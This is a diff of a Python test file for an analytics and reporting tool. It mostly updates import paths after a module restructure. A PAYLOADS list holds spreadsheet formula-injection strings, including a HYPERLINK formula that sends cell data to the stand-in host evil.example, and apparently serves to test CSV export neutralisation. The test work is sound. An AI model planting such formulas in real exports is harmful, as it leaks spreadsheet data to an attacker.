@@ -11,15 +11,15 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from core import repo
-from core.analytics.alignment import alignment_headline
-from core.analytics.flow import flow_report
-from core.analytics.health import reality_report
-from core.analytics.kpis import kpi_report
-from core.analytics.snapshot import items_at, open_signals_at
-from core.export import csv_bytes, neutralise, steering_pack
-from core.report import ReportOptions, build_report, freshness, load_frames
+from core.alignment.analytics import alignment_headline
+from core.flow.analytics import flow_report
+from core.kpis.analytics import kpi_report
+from core.kpis.health import reality_report
+from core.reporting.export import csv_bytes, neutralise, steering_pack
+from core.reporting.report import ReportOptions, build_report, freshness, load_frames
+from core.reporting.snapshot import items_at, open_signals_at
 from core.sample import load_sample
+from core.store import tables
 
 ROOT = Path(__file__).resolve().parents[2]
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-1+1", "@SUM(A1:A2)", "\tcmd", "\rcmd"]
@@ -53,7 +53,7 @@ def test_each_headline_figure_is_its_views_own_function(sample) -> None:
     assert figs["throughput"] == round(tp[tp["week"] > flow["as_of"] - pd.Timedelta(weeks=4)]["done"].sum() / 4, 1)
     rows = {r["key"]: r for r in report["headline"]}
     assert rows["wip"]["change"] == figs["wip"] - report["previous"]["wip"]
-    assert rows["top_wait_days"]["note"] == "Data Platform" and rows["linked_share"]["view"] == "pages/alignment.py"
+    assert rows["top_wait_days"]["note"] == "Data Platform" and rows["linked_share"]["view"] == "alignment"
 
 
 def test_attention_names_an_owner_and_a_reason_for_five_different_problems(sample) -> None:
@@ -161,4 +161,4 @@ def test_cli_export_writes_the_pack_and_refuses_a_bad_path(engine, db_url, tmp_p
                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)
     assert bad.returncode == 2 and "does not exist" in bad.stderr and "Traceback" not in bad.stderr
     with engine.connect() as conn:
-        assert repo.read_table(conn, "importbatch")["kind"].ne("export").all()
+        assert tables.read_table(conn, "importbatch")["kind"].ne("export").all()
